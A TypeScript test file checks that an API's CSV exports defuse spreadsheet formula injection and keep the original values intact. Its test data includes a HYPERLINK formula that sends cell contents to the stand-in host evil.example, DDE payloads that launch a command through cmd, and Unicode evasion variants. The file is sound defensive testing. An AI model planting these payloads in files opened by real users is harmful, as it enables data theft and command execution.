import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, test } from "vitest";
import { db } from "@/lib/db/collections.ts";
import { rearmed } from "@/lib/http/csv.ts";
import { readTags } from "@/lib/imports/read-tags.ts";
import { api, type Body, startApi, stopApi, until } from "@/tests/setup/api.ts";
import { reportAttack } from "@/tests/setup/fault-results.ts";
import { isolatedDatabase } from "@/tests/setup/isolated.ts";
import { startWorker } from "@/tests/setup/worker.ts";

isolatedDatabase(import.meta.url);

/** What a spreadsheet would run, or send away, if a cell began with it. */
const formulas = [
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u200e\u0000+1+1",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
  "﹦1+1",
  "+1-1",
  "+1 (202) 555-0100",
];
/** Spreadsheets of many countries begin a cell behind the semicolon. */
const behind = "x;=1+1";
/** Others behind a tab. */
const behindTab = "y\t=1+1";
/** Begins like one, and is none. */
const phone = "+33 6 00000090";
const person = (i: number) => `P-${i}`;

let worker: ReturnType<typeof startWorker>;
const paths: Record<string, string> = { "/api/v1/audit.csv": "/api/v1/audit.csv" };

async function imported(file: string, fields: Record<string, string>): Promise<string> {
  const { import_id } = (await api("POST", "/api/v1/imports", { body: { file_name: "f.csv" } })).body;
  await api("PUT", `/api/v1/imports/${import_id}/parts/0`, { raw: Buffer.from(file) });
  const mapping = { encoding: "utf-8", entities: { lead: { fields } } };
  const started = await api("POST", `/api/v1/imports/${import_id}/start`, { body: { mapping } });
  expect(started.status, started.text).toBe(202);
  await ended(import_id, "completed");
  return import_id;
}

const ended = (id: string, status: string): Promise<Body> =>
  until(
    async () => (await api("GET", `/api/v1/imports/${id}`)).body,
    (seen) => seen.status === status,
  );

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

beforeAll(async () => {
  await startApi();
  worker = startWorker({ queues: true });
  for (const [i, name] of formulas.entries()) {
    await db.leads().insertOne({ lead_id: `L-${i}`, pii_id: person(i), campaign: name } as never);
    await db
      .contacts()
      .insertOne({ contact_id: `C-${i}`, pii_id: person(i), name, city: "12 High St\nPune" } as never);
  }
  // Two of one person, whose values stand in one cell.
  const second = {
    lead_id: "L-second",
    pii_id: person(0),
    campaign: formulas[1],
    tags: ["calm", formulas[0]],
  };
  await db.leads().insertOne(second as never);
  for (const campaign of [behind, behindTab])
    await db.leads().insertOne({ lead_id: `L-${campaign}`, pii_id: person(1), campaign } as never);
  const agents: string[] = [];
  for (const name of formulas.slice(0, 2)) {
    const agent = await api("POST", "/api/v1/agents", { body: { name, daily_capacity: 50 } });
    expect(agent.status, agent.text).toBe(201);
    agents.push(agent.body.agent_id);
  }
  const cohort = await api("POST", "/api/v1/cohorts", {
    body: { name: "All", type: "static", pii_ids: formulas.map((_, i) => person(i)) },
  });
  const { cohort_id } = cohort.body;
  paths["/api/v1/cohorts/{cohort_id}/members.csv"] =
    `/api/v1/cohorts/${cohort_id}/members.csv?fields=contact.name,lead.campaign,contact.city`;
  const job = await api("POST", `/api/v1/cohorts/${cohort_id}/assign`, { body: { agent_ids: agents } });
  expect(job.status, job.text).toBe(200);
  const items = db.assignmentItems();
  for (const [i, message] of formulas.entries())
    await items.updateOne(
      { job_id: job.body.job_id, lead_id: `L-${i}` },
      { $set: { message, state: "failed" } },
    );
  paths["/api/v1/assignment-jobs/{job_id}/outcomes.csv"] =
    `/api/v1/assignment-jobs/${job.body.job_id}/outcomes.csv`;

  const rows = formulas.map((cell, i) => `X-${i},P-${i},not a number,${quoted(cell)}`);
  const fields = { lead_id: "id", pii_id: "person", score: "score" };
  const refused = await imported(`id,person,score,=note\n${rows.join("\n")}\n`, fields);
  paths["/api/v1/imports/{import_id}/refused.csv"] = `/api/v1/imports/${refused}/refused.csv`;

  const taken = await imported("id,person,score\n=S-1,=P-s,5\n", fields);
  expect((await api("PATCH", "/api/v1/leads/%3DS-1", { body: { score: 6 } })).status).toBe(200);
  expect((await api("POST", `/api/v1/imports/${taken}/undo`)).status).toBe(202);
  await ended(taken, "undone");
  paths["/api/v1/imports/{import_id}/skipped.csv"] = `/api/v1/imports/${taken}/skipped.csv`;
}, 60_000);
afterAll(async () => {
  await worker.stop();
  await stopApi();
});

const ran = reportAttack("Formulas in whatever a CSV export gives out", "none is run, none is lost");

const isFormula = (cell: string) =>
  /^[\s\p{C}]*[=+\-@\t\r＝＋－＠﹦]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

test("no cell of any CSV that the API gives out is run by a spreadsheet, and none is lost", async () => {
  const described = (await api("GET", "/api/v1/openapi.json")).body.paths as Record<string, Body>;
  const answersCsv = Object.entries(described)
    .filter(([, { get }]) => get?.responses?.["200"]?.content?.["text/csv"])
    .map(([path]) => path);
  expect(answersCsv.sort()).toEqual(Object.keys(paths).sort());
  for (const [described, path] of Object.entries(paths)) {
    const csv = await api("GET", path);
    expect(csv.status, csv.text).toBe(200);
    const rows = parse(csv.text) as string[][];
    expect(rows.length, described).toBeGreaterThan(1);
    // A list in a cell may be taken apart by its separator.
    const cells = rows.flat().flatMap((cell) => [cell, ...cell.split(/[;\t]/)]);
    for (const cell of cells)
      if (isFormula(cell) || (cell.startsWith("'") && isFormula(cell.slice(1)))) ran(isFormula(cell));
    expect(cells.filter(isFormula), described).toEqual([]);
    expect(csv.text, described).toContain("'=");
  }
});

test("a member's name and values are what they were, behind the quote that disarms them", async () => {
  const csv = await api("GET", paths["/api/v1/cohorts/{cohort_id}/members.csv"] ?? "");
  const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
  const seen = rows.map((row) => row["contact.name"] ?? "");
  expect(rows.map((row) => row["contact.city"])).toEqual(formulas.map(() => "12 High St\nPune"));
  expect(seen.filter((cell) => !cell.startsWith("'"))).toEqual([]);
  expect(seen.map(rearmed).sort()).toEqual([...formulas].sort());
  const campaigns = rows.find(({ pii_id }) => pii_id === person(1))?.["lead.campaign"];
  expect(readTags(campaigns ?? "", ";").sort()).toEqual([`'${formulas[1]}`, "x;'=1+1", "y\t'=1+1"]);
  expect(csv.text).toContain("y\t'=1+1");
  expect(csv.text).not.toMatch(/^[^"]*\t/m);
});

test("a phone number with its country stays as it is", async () => {
  await db.contacts().updateOne({ contact_id: "C-0" }, { $set: { city: phone } });
  const csv = await api("GET", paths["/api/v1/cohorts/{cohort_id}/members.csv"] ?? "");
  const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
  expect(rows.map((row) => row["contact.city"])).toContain(phone);
});
